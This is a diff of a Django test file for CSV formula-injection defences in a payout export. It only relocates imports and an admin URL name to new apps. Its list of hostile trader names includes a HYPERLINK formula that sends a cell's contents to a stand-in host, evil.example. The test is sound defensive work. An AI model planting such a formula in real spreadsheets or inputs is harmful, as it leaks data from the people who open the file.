@@ -1,4 +1,4 @@
-"""Issue 12, hole 3: formula injection in the CSV finance opens in a spreadsheet (campaigns/csv_export.py).
+"""Issue 12, hole 3: formula injection in the CSV finance opens in a spreadsheet (core/csv_export.py).
 
 A trader named `=HYPERLINK(...)` (or `+`, `-`, `@`, a tab, a carriage return, their full-width forms) used to reach
 the payout export raw. Every cell of every CSV the project writes is now neutralised by one function; amounts stay
@@ -15,11 +15,11 @@ import pytest
 from django.conf import settings
 from django.urls import reverse
 
-from campaigns.csv_export import FORMULA_STARTS, csv_cell, csv_document
 from campaigns.models import Enrollment, RewardPool
-from campaigns.services.payouts import payout_batch_approve, payout_batch_calculate
-from leaderboard.models import LeadTrader
+from core.csv_export import FORMULA_STARTS, csv_cell, csv_document
+from rewards.services.payouts import payout_batch_approve, payout_batch_calculate
 from tests.payouts_helpers import period_of, phase2, post, sh, staff
+from traders.models import LeadTrader
 
 HOSTILE_NAMES = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
@@ -86,7 +86,7 @@ def test_the_payout_export_neutralises_every_hostile_cell(client):
     )
     payout_batch_approve(batch_id=batch.pk, actor=staff("boss", "approve_payoutbatch"))
     client.force_login(staff("finance", "view_payoutbatch"))
-    response = client.get(reverse("admin:campaigns_payoutbatch_export", args=[batch.pk]))
+    response = client.get(reverse("admin:rewards_payoutbatch_export", args=[batch.pk]))
     assert response.status_code == 200
     text = response.content.decode()
     rows = read(text)
